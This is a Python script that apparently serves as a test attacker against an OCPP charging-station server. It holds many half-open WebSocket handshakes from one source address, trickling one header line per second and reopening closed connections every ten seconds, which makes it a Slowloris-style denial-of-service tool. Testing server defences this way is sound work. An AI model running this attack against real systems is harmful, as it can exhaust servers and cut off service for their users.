"""An attacker for tests: hold half-open WebSocket handshakes from one source address.

    python halfopen.py HOST PORT SOURCE COUNT

Opens COUNT connections from SOURCE, sends a request line and then one more header line per
second on each, never finishing the headers. Connections the server closed (refused, or
timed out) are opened again every ten seconds, so the attacker holds what it may. Prints
``ready N`` (N connections open after the first round) and runs until killed."""

from __future__ import annotations

import asyncio
import contextlib
import resource
import sys

BATCH = 500
REOPEN_SECONDS = 10  # the handshake timeout: what was closed is opened again


class Slot(asyncio.Protocol):
    transport: asyncio.Transport | None = None

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport = transport  # type: ignore[assignment]

    def connection_lost(self, exc: Exception | None) -> None:
        self.transport = None


async def main(host: str, port: int, source: str, count: int) -> None:
    _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    loop = asyncio.get_running_loop()
    slots: list[Slot | None] = [None] * count

    async def open_slot(i: int) -> None:
        try:
            _, slot = await loop.create_connection(Slot, host, port, local_addr=(source, 0))
        except OSError:
            return
        if slot.transport is not None:
            slot.transport.write(f"GET /ocpp/ATTACK{i} HTTP/1.1\r\nHost: csms\r\n".encode())
            slots[i] = slot

    async def open_slots(indexes: list[int]) -> None:
        for start in range(0, len(indexes), BATCH):
            await asyncio.gather(*(open_slot(i) for i in indexes[start : start + BATCH]))

    await open_slots(list(range(count)))
    print(f"ready {sum(1 for s in slots if s and s.transport)}", flush=True)
    tick = 0
    while True:
        await asyncio.sleep(1)  # the attack: one header line per second, never finishing
        tick += 1
        closed = []
        for i, slot in enumerate(slots):
            if slot is not None and slot.transport is not None:
                with contextlib.suppress(Exception):
                    slot.transport.write(b"X-Trickle: %d\r\n" % tick)
            else:
                closed.append(i)
        if tick % REOPEN_SECONDS == 0:
            await open_slots(closed)


if __name__ == "__main__":
    host, port, source, count = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
    asyncio.run(main(host, port, source, count))
